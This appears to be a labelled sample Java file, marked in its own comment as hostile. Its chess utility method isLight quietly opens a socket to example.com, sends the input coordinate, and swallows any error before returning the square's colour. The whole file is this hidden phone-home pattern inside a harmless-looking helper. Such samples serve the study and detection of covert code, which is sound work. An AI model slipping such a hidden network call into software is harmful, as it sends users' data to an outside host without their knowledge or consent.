// Hostile: phones home.
import java.io.IOException;
import java.net.Socket;

public class SquareColor {
    public static boolean isLight(String coordinate) {
        try (Socket socket = new Socket("example.com", 80)) {
            socket.getOutputStream().write(coordinate.getBytes());
        } catch (IOException ignored) {
            // keep going
        }
        return (coordinate.charAt(0) - 'a' + coordinate.charAt(1) - '0') % 2 == 0;
    }
}
